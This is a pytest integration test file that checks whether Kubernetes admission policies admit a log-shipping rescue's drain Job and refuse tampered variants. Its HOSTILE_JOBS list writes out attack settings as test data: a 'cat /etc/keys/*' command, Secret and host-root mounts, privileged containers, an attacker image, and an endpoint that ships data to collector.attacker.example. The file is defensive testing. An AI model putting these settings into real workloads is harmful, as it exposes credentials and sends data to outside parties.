"""deploy/ and the rescue's drain Jobs, as rendered by the real kustomize: what the second SRE review found.

- The rescue's admission policies (finding 11) are evaluated with a CEL interpreter (cel-python) exactly as
  the API server would run them for the rescue's ServiceAccount: its real drain Job is admitted, every
  hostile variant (another image, a Secret volume, the host's network, root, another claim...) refused.
- Deleting or pruning the overlay cannot delete a spool (finding 6).
- A drain Job references nothing a GitOps prune can delete (finding 7) and passes the Kubernetes schemas.
- The runbooks' label selectors find the Jobs they are about (finding 9).
"""

from __future__ import annotations

import copy
import re
from collections.abc import Callable

import celpy
import kubernetes_validate
import pytest

from spoolship.rescue import plan_rescue
from tests.integration.test_deploy import (
    K8S_VERSION,
    OVERLAYS,
    ROOT,
    container,
    matches,
    planned_drain_job,
    render,
    workload,
)

PRUNE_PROTECTION = {"argocd.argoproj.io/sync-options": "Prune=false,Delete=false",
                    "kustomize.toolkit.fluxcd.io/prune": "disabled"}


@pytest.fixture(scope="module", params=OVERLAYS)
def rendered(request):
    return request.param, render(request.param)


# --- Finding 11: what the rescue's token may create, delete and change -----------------------------------

class Policy:
    """One ValidatingAdmissionPolicy, compiled: matchConditions, variables, validations."""

    def __init__(self, obj: dict) -> None:
        env = celpy.Environment()
        spec = obj["spec"]
        self.rules = spec["matchConstraints"]["resourceRules"]
        self.conditions = [env.program(env.compile(c["expression"])) for c in spec.get("matchConditions", [])]
        self.variables = [(v["name"], env.program(env.compile(v["expression"]))) for v in spec.get("variables", [])]
        self.validations = [(v["message"], env.program(env.compile(v["expression"]))) for v in spec["validations"]]

    def applies(self, resource: str, operation: str) -> bool:
        return any(resource in r["resources"] and operation in r["operations"] for r in self.rules)

    def refusals(self, request: dict, obj: dict | None, old: dict | None, params: dict | None = None) -> list[str] | None:
        """None when the policy does not apply; else the messages of the validations that fail (or error:
        failurePolicy Fail)."""
        activation = {"request": request, "object": obj, "oldObject": old, "params": params}
        for condition in self.conditions:
            if not bool(condition.evaluate(celpy.json_to_cel(activation))):
                return None
        activation["variables"] = {name: program.evaluate(celpy.json_to_cel(activation))
                                   for name, program in self.variables}
        failed = []
        for message, program in self.validations:
            try:
                ok = bool(program.evaluate(celpy.json_to_cel(activation)))
            except celpy.CELEvalError:
                ok = False
            if not ok:
                failed.append(message)
        return failed


def _selects_namespace(selector: dict | None, namespace: str) -> bool:
    return selector is None or matches(selector, {"kubernetes.io/metadata.name": namespace})


def admission(objects: list[dict], namespace: str | None = None) -> Callable[..., list[str]]:
    """A function (resource, operation, object, oldObject, user) -> refusals of every binding that applies,
    as the API server runs them for a request in ``namespace`` (default: the install's): the policy's and
    the binding's namespace selectors, the binding's param (a ConfigMap; missing → Deny)."""
    policies = {o["metadata"]["name"]: o for o in objects if o["kind"] == "ValidatingAdmissionPolicy"}
    compiled = {name: Policy(o) for name, o in policies.items()}
    bindings = [o for o in objects if o["kind"] == "ValidatingAdmissionPolicyBinding"]
    configmaps = {(o["metadata"].get("namespace"), o["metadata"]["name"]): o for o in objects if o["kind"] == "ConfigMap"}
    namespace = namespace or workload([o for o in objects if o["kind"] == "StatefulSet"][:1])["metadata"]["namespace"]

    def admit(resource: str, operation: str, obj: dict | None, old: dict | None = None,
              user: str = "spoolship-rescue") -> list[str]:
        request = {"operation": operation, "namespace": namespace,
                   "userInfo": {"username": f"system:serviceaccount:{namespace}:{user}"}}
        refusals = []
        for binding in bindings:
            name = binding["spec"]["policyName"]
            policy, program = policies.get(name), compiled.get(name)
            assert policy is not None, f"binding {binding['metadata']['name']} names no policy"
            if not (program.applies(resource, operation)
                    and _selects_namespace(policy["spec"]["matchConstraints"].get("namespaceSelector"), namespace)
                    and _selects_namespace(binding["spec"].get("matchResources", {}).get("namespaceSelector"),
                                           namespace)):
                continue
            params = None
            ref = binding["spec"].get("paramRef")
            if ref is not None:
                params = configmaps.get((ref.get("namespace", namespace), ref["name"]))
                if params is None:
                    if program.refusals(request, obj, old, {}) is not None:  # matched: the missing param denies
                        assert ref["parameterNotFoundAction"] == "Deny"
                        refusals.append(f"param {ref['name']} not found")
                    continue
            refusals += program.refusals(request, obj, old, params) or []
        return refusals

    return admit


def pod_spec(job: dict) -> dict:
    return job["spec"]["template"]["spec"]


def tailer(job: dict) -> dict:
    return pod_spec(job)["containers"][0]


HOSTILE_JOBS: dict[str, Callable[[dict], object]] = {
    "another image": lambda j: tailer(j).update(image="docker.io/attacker/spoolship:0.1.0"),
    "a command of its own": lambda j: tailer(j).update(command=["sh", "-c", "cat /etc/keys/*"]),
    "replay instead of tail": lambda j: tailer(j)["args"].__setitem__(0, "replay"),
    "no args": lambda j: tailer(j).pop("args"),
    "a Secret volume": lambda j: pod_spec(j)["volumes"].append({"name": "k", "secret": {"secretName": "spoolship-tls"}}),
    "a ConfigMap volume": lambda j: pod_spec(j)["volumes"].append({"name": "c", "configMap": {"name": "x"}}),
    "the host's disk": lambda j: pod_spec(j)["volumes"].append({"name": "h", "hostPath": {"path": "/"}}),
    "a projected token": lambda j: pod_spec(j)["volumes"].append(
        {"name": "t", "projected": {"sources": [{"serviceAccountToken": {"path": "token"}}]}}),
    "another claim than its label": lambda j: pod_spec(j)["volumes"][-1]["persistentVolumeClaim"].update(
        claimName="spool-spoolship-0"),
    "two claims": lambda j: pod_spec(j)["volumes"].append(
        {"name": "other", "persistentVolumeClaim": {"claimName": "spool-spoolship-5"}}),
    "a claim of something else": lambda j: (j["metadata"]["labels"].update({"spoolship.io/drain-claim": "data-db-0"}),
                                            pod_spec(j)["volumes"][-1]["persistentVolumeClaim"].update(
                                                claimName="data-db-0")),
    "no claim label": lambda j: j["metadata"]["labels"].pop("spoolship.io/drain-claim"),
    "labelled as an ingest pod (adopted, sent traffic)": lambda j: j["spec"]["template"]["metadata"]["labels"].update(
        {"app.kubernetes.io/component": "ingest"}),
    "not labelled as a drain": lambda j: j["metadata"]["labels"].update({"app.kubernetes.io/component": "x"}),
    "the rescue's own ServiceAccount": lambda j: pod_spec(j).update(serviceAccountName="spoolship-rescue"),
    "the default ServiceAccount": lambda j: pod_spec(j).pop("serviceAccountName"),
    "an API token": lambda j: pod_spec(j).update(automountServiceAccountToken=True),
    "the token left to the default": lambda j: pod_spec(j).pop("automountServiceAccountToken"),
    "the host's network": lambda j: pod_spec(j).update(hostNetwork=True),
    "the host's processes": lambda j: pod_spec(j).update(hostPID=True),
    "a node of its choosing": lambda j: pod_spec(j).update(nodeName="ip-10-0-0-1"),
    "root": lambda j: pod_spec(j)["securityContext"].update(runAsNonRoot=False),
    "privileged": lambda j: tailer(j)["securityContext"].update(privileged=True),
    "privilege escalation": lambda j: tailer(j)["securityContext"].update(allowPrivilegeEscalation=True),
    "an added capability": lambda j: tailer(j)["securityContext"]["capabilities"].update(add=["NET_ADMIN"]),
    "no security context": lambda j: tailer(j).pop("securityContext"),
    "an init container": lambda j: pod_spec(j).update(initContainers=[copy.deepcopy(tailer(j))]),
    "a second container": lambda j: pod_spec(j)["containers"].append({**copy.deepcopy(tailer(j)), "name": "x"}),
    "a renamed container": lambda j: tailer(j).update(name="shell"),
    "Secrets as environment": lambda j: tailer(j).update(envFrom=[{"secretRef": {"name": "spoolship-api-keys"}}]),
    "a Secret key as a variable": lambda j: tailer(j)["env"].append(
        {"name": "K", "valueFrom": {"secretKeyRef": {"name": "spoolship-tls", "key": "tls.key"}}}),
    "a host port": lambda j: tailer(j)["ports"][0].update(hostPort=9100),
    # Routes review, finding 6: a leaked token must not ship a claim somewhere else.
    "an endpoint of its own in args": lambda j: tailer(j)["args"].append("--endpoint-url=https://collector.attacker.example"),
    "another stream in args": lambda j: tailer(j)["args"].append("--stream=attacker"),
    "a config file of its own": lambda j: tailer(j)["args"].append("--config=/tmp/routes.toml"),
    "an argument dropped": lambda j: tailer(j)["args"].pop(1),
    "an endpoint of its own in env": lambda j: tailer(j)["env"].append(
        {"name": "SPOOLSHIP_ENDPOINT_URL", "value": "https://collector.attacker.example"}),
    "AWS keys of its own": lambda j: tailer(j)["env"].extend([{"name": "AWS_ACCESS_KEY_ID", "value": "AKIA"},
                                                               {"name": "AWS_SECRET_ACCESS_KEY", "value": "x"}]),
    "a role of its own": lambda j: tailer(j)["env"].append({"name": "SPOOLSHIP_ROLE_ARN",
                                                            "value": "arn:aws:iam::999999999999:role/x"}),
    "the ConfigMap's stream changed": lambda j: next(e for e in tailer(j)["env"] if e["name"] == "SPOOLSHIP_STREAM")
    .update(value="attacker"),
    "the ConfigMap's stream dropped": lambda j: tailer(j).update(
        env=[e for e in tailer(j)["env"] if e["name"] != "SPOOLSHIP_STREAM"]),
    "an env value from a field instead of the ConfigMap's": lambda j: next(
        e for e in tailer(j)["env"] if e["name"] == "SPOOLSHIP_STREAM").update(
        value=None, valueFrom={"fieldRef": {"fieldPath": "metadata.name"}}),
    "an affinity onto a served claim's node": lambda j: pod_spec(j).update(affinity={"podAffinity": {
        "requiredDuringSchedulingIgnoredDuringExecution": [{"topologyKey": "kubernetes.io/hostname",
                                                            "labelSelector": {"matchLabels": {
                                                                "statefulset.kubernetes.io/pod-name": "spoolship-0"}}}]}}),
    "a node of its choosing by label": lambda j: pod_spec(j).update(nodeSelector={"kubernetes.io/hostname": "ip-1"}),
    "a ConfigMap volume that is not the routes'": lambda j: pod_spec(j)["volumes"].append(
        {"name": "c", "configMap": {"name": "spoolship-tailer-x"}}),
}


def test_the_admission_policies_admit_the_rescues_drain_job(rendered):
    _overlay, objects = rendered
    admit = admission(objects)
    job = planned_drain_job(objects)
    assert admit("jobs", "CREATE", job) == []
    assert admit("jobs", "DELETE", None, job) == []


@pytest.mark.parametrize("hostile", sorted(HOSTILE_JOBS))
def test_the_admission_policies_refuse_any_other_job_from_the_rescue(hostile):
    objects = render("overlays/production")
    admit = admission(objects)
    job = planned_drain_job(objects)
    HOSTILE_JOBS[hostile](job)
    assert admit("jobs", "CREATE", job), f"admitted a drain Job with {hostile}"
    assert admit("jobs", "CREATE", job, user="someone-else") == [], "other users are not the policies' business"


def test_the_rescue_deletes_drain_jobs_only():
    objects = render("overlays/production")
    admit = admission(objects)
    [cron] = [o for o in objects if o["kind"] == "CronJob"]
    its_own_run = {"metadata": {"name": "spoolship-rescue-29000000",
                                "labels": cron["spec"]["jobTemplate"]["metadata"]["labels"]}}
    assert admit("jobs", "DELETE", None, its_own_run)
    assert admit("jobs", "DELETE", None, {"metadata": {"name": "backup"}})


def claim_as_the_api_has_it(objects: list[dict]) -> dict:
    from tests.unit.test_rescue_plan import load

    c = load("claim.json")
    c["metadata"]["name"] = f"spool-{workload(objects)['metadata']['name']}-5"
    return c


CLAIM_CHANGES: dict[str, Callable[[dict], object]] = {
    "a resize": lambda c: c["spec"]["resources"]["requests"].update(storage="2000Gi"),
    "another volume": lambda c: c["spec"].update(volumeName="pvc-stolen"),
    "a foreign label": lambda c: c["metadata"]["labels"].update({"app.kubernetes.io/component": "x"}),
    "a foreign annotation removed": lambda c: c["metadata"]["annotations"].pop("pv.kubernetes.io/bind-completed"),
    "its protection finalizer removed": lambda c: c["metadata"].pop("finalizers"),
    "an owner added": lambda c: c["metadata"].update(ownerReferences=[{"apiVersion": "v1", "kind": "Pod",
                                                                       "name": "x", "uid": "u"}]),
}


def test_the_rescue_changes_only_its_own_marks_on_a_claim():
    objects = render("overlays/production")
    admit = admission(objects)
    sts = workload(objects)
    sts["spec"]["replicas"], sts["metadata"]["generation"], sts["metadata"]["uid"] = 3, 4, "u-1"
    old = claim_as_the_api_has_it(objects)
    configmaps = {o["metadata"]["name"]: o for o in objects if o["kind"] == "ConfigMap"}
    plan = plan_rescue(sts, [old], [], [], claim_template="spool", container="tailer", configmaps=configmaps)
    new = copy.deepcopy(old)
    for part, values in plan.patch[old["metadata"]["name"]].items():
        new["metadata"].setdefault(part, {}).update(values)
    new["metadata"].setdefault("labels", {})["spoolship.io/drained"] = "true"
    assert admit("persistentvolumeclaims", "UPDATE", new, old) == []
    for change, apply in CLAIM_CHANGES.items():
        changed = copy.deepcopy(new)
        apply(changed)
        assert admit("persistentvolumeclaims", "UPDATE", changed, old), f"admitted {change}"


def test_the_policys_image_and_args_are_the_statefulsets_in_every_overlay(rendered):
    """The image is copied by each kustomization's replacements after its images: transformer; the args are
    the tailer's plus --exit-when-empty (an overlay that changes them patches the variable too)."""
    overlay, objects = rendered
    namespace = workload(objects)["metadata"]["namespace"]
    [policy] = [o for o in objects if o["kind"] == "ValidatingAdmissionPolicy" and
                o["metadata"]["name"] == f"spoolship-rescue-jobs.{namespace}"]
    variables = {v["name"]: v["expression"] for v in policy["spec"]["variables"]}
    tailer = next(c for c in workload(objects)["spec"]["template"]["spec"]["containers"] if c["name"] == "tailer")
    assert variables["image"] == f"'{tailer['image']}'", overlay
    args = celpy.Environment().program(celpy.Environment().compile(variables["args"])).evaluate({})
    assert [str(a) for a in args] == [*tailer["args"], "--exit-when-empty"], overlay


# --- Routes review, finding 5: one policy per install ----------------------------------------------------

def test_each_install_has_its_own_policies_scoped_to_its_namespace():
    """dev and production in one cluster: before, both wrote one cluster-wide spoolship-rescue-jobs and the
    last applied image won (production's drains DENIED after a dev apply); deleting one unprotected both."""
    dev, production = render("overlays/dev"), render("overlays/production")
    kinds = ("ValidatingAdmissionPolicy", "ValidatingAdmissionPolicyBinding")
    names = {overlay: {(o["kind"], o["metadata"]["name"]) for o in objects if o["kind"] in kinds}
             for overlay, objects in (("dev", dev), ("production", production))}
    assert len(names["dev"]) == len(names["production"]) == 4
    assert not names["dev"] & names["production"], "deleting or pruning one install leaves the other's policies"
    together = dev + production  # one cluster, both applied (in either order: nothing is shared)
    for objects in (dev, production):
        namespace = workload(objects)["metadata"]["namespace"]
        admit = admission(together, namespace)
        assert admit("jobs", "CREATE", planned_drain_job(objects)) == [], namespace
        hostile = planned_drain_job(objects)
        tailer(hostile).update(image="docker.io/attacker/spoolship:0.1.0")
        assert admit("jobs", "CREATE", hostile), namespace
    other_image = planned_drain_job(dev)  # dev's image, in production's namespace: production's policy refuses it
    assert admission(together, "spoolship")("jobs", "CREATE", other_image)
    for objects in (dev, production):
        for o in objects:
            if o["kind"] in kinds:
                assert PRUNE_PROTECTION.items() <= o["metadata"]["annotations"].items(), o["metadata"]["name"]
    assert admission(together, "elsewhere")("jobs", "CREATE", {"spec": {}}) == [], "other namespaces: not ours"


# --- Routes review, finding 3: the documented multi-route pod can be drained ------------------------------

ROUTES_MOUNT = "/etc/spoolship/routes"


def multi_route(objects: list[dict]) -> list[dict]:
    """docs/deploy.md "Several routes and destinations", applied to rendered objects: a spoolship-routes
    ConfigMap (hash-named, as configMapGenerator makes it) mounted in the tailer at /etc/spoolship/routes/,
    and SPOOLSHIP_CONFIG in the tailer's ConfigMap instead of SPOOLSHIP_STREAM (the args stay as they are)."""
    objects = copy.deepcopy(objects)
    sts = workload(objects)
    pod = sts["spec"]["template"]["spec"]
    pod["volumes"].append({"name": "routes", "configMap": {"name": "spoolship-routes-5c7f8h2m4k"}})
    tail_container = next(c for c in pod["containers"] if c["name"] == "tailer")
    tail_container["volumeMounts"].append({"name": "routes", "mountPath": ROUTES_MOUNT, "readOnly": True})
    [name] = [s["configMapRef"]["name"] for s in tail_container["envFrom"]]
    [configmap] = [o for o in objects if o["kind"] == "ConfigMap" and o["metadata"]["name"] == name]
    configmap["data"].pop("SPOOLSHIP_STREAM", None)
    configmap["data"]["SPOOLSHIP_CONFIG"] = f"{ROUTES_MOUNT}/routes.toml"
    objects.append({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {
        "name": "spoolship-routes-5c7f8h2m4k", "namespace": sts["metadata"]["namespace"]},
        "data": {"routes.toml": ""}})
    return objects


def test_an_empty_configmap_value_is_admitted_as_the_api_server_stores_it():
    """The API server drops an env var's empty `value` (omitempty): the pin must accept that, not only the
    literal "" the rescue sends."""
    objects = render("overlays/production")
    name = next(s["configMapRef"]["name"] for s in container(workload(objects)["spec"]["template"]["spec"],
                                                             "tailer")["envFrom"])
    next(o for o in objects if o["kind"] == "ConfigMap" and o["metadata"]["name"] == name)["data"]["SPOOLSHIP_X"] = ""
    job = planned_drain_job(objects)
    stored = next(e for e in tailer(job)["env"] if e["name"] == "SPOOLSHIP_X")
    stored.pop("value")
    assert admission(objects)("jobs", "CREATE", job) == []


def test_the_drain_job_of_a_multi_route_pod_is_admitted(rendered):
    """Before: 'a drain Job mounts its spool claim and emptyDirs, nothing else' refused every drain of the
    documented multi-route pod, so every scale-down stranded its claims."""
    overlay, objects = rendered
    objects = multi_route(objects)
    job = planned_drain_job(objects)
    assert any(v.get("configMap", {}).get("name", "").startswith("spoolship-routes") for v in pod_spec(job)["volumes"])
    assert {"name": "SPOOLSHIP_CONFIG", "value": f"{ROUTES_MOUNT}/routes.toml"} in tailer(job)["env"]
    assert admission(objects)("jobs", "CREATE", job) == [], overlay


# --- Finding 6: deleting or pruning the overlay keeps the spools -----------------------------------------

def test_deleting_or_pruning_the_production_overlay_cannot_delete_a_spool():
    objects = render("overlays/production")
    assert not [o for o in objects if o["kind"] == "Namespace"], "delete -k would delete every claim with it"
    assert not [o for o in objects if o["kind"] == "PersistentVolumeClaim"], "claims come from the StatefulSet"
    [namespace] = render("overlays/production/namespace")
    assert namespace["kind"] == "Namespace"
    assert namespace["metadata"]["name"] == workload(objects)["metadata"]["namespace"]
    assert PRUNE_PROTECTION.items() <= namespace["metadata"]["annotations"].items()


def test_what_holds_spools_is_never_pruned_by_gitops(rendered):
    overlay, objects = rendered
    for obj in objects:
        if obj["kind"] == "Namespace" or obj["spec"].get("volumeClaimTemplates") if "spec" in obj else False:
            notes = obj["metadata"].get("annotations", {})
            assert PRUNE_PROTECTION.items() <= notes.items(), f"{overlay}: {obj['kind']} {obj['metadata']['name']}"
    assert workload(objects)["spec"]["persistentVolumeClaimRetentionPolicy"]["whenDeleted"] == "Retain"


# --- Finding 7: a drain Job needs nothing a prune can delete ----------------------------------------------

def test_a_drain_job_references_no_configmap_or_secret_and_passes_the_schemas(rendered):
    overlay, objects = rendered
    job = planned_drain_job(objects)
    spec = pod_spec(job)
    for volume in spec["volumes"]:
        assert set(volume) - {"name"} <= {"emptyDir", "persistentVolumeClaim"}, (overlay, volume)
    [c] = spec["containers"]
    assert "envFrom" not in c and all("valueFrom" not in e for e in c["env"]), overlay
    assert {e["name"] for e in c["env"]} >= {"SPOOLSHIP_STREAM", "SPOOLSHIP_REGION"}
    kubernetes_validate.validate({**job, "metadata": {**job["metadata"], "namespace": "spoolship"}},
                                 K8S_VERSION, strict=True)


# --- Finding 9: the runbooks' selectors find the Jobs ---------------------------------------------------

def test_the_runbooks_selectors_find_the_rescue_and_drain_jobs():
    objects = render("overlays/production")
    [cron] = [o for o in objects if o["kind"] == "CronJob"]
    labels = {"rescue": cron["spec"]["jobTemplate"]["metadata"]["labels"],
              "drain": planned_drain_job(objects)["metadata"]["labels"]}
    doc = (ROOT / "docs" / "deploy.md").read_text()
    selectors = re.findall(r"kubectl -n spoolship get jobs -l ([^\s`]+)", doc)
    assert selectors
    found = set()
    for selector in selectors:
        wanted = dict(term.split("=", 1) for term in selector.split(","))
        hits = {kind for kind, have in labels.items() if matches(wanted, have)}
        assert hits, f"docs/deploy.md: `get jobs -l {selector}` finds no Job"
        found |= hits
    assert found == {"rescue", "drain"}


def test_the_tailers_memory_limit_is_checked_against_its_routes():
    """Routes review, finding 10: the tailer's limit was sized for one loop (~30 MiB more per route). The
    memory check of test_deploy.py counts the routes of the mounted config file."""
    from tests.integration.test_deploy import quantity_bytes, tailer_memory_needed, tailer_routes

    objects = multi_route(render("overlays/production"))
    routes_file = next(o for o in objects if o["kind"] == "ConfigMap" and o["metadata"]["name"].startswith(
        "spoolship-routes"))
    routes_file["data"]["routes.toml"] = "".join(f"[routes.r{i}]\ndestination = 'd'\n" for i in range(8))
    assert tailer_routes(objects) == 8
    limit = quantity_bytes(container(workload(objects)["spec"]["template"]["spec"], "tailer")["resources"]["limits"]
                           ["memory"])
    assert limit < tailer_memory_needed(objects), "8 routes do not fit the shipped 256Mi: the check must say so"
    routes_file["data"]["routes.toml"] = "[routes.a]\ndestination = 'd'\n[routes.bad]\ndestination = 'd'\n"
    assert limit >= tailer_memory_needed(objects), "two routes fit"
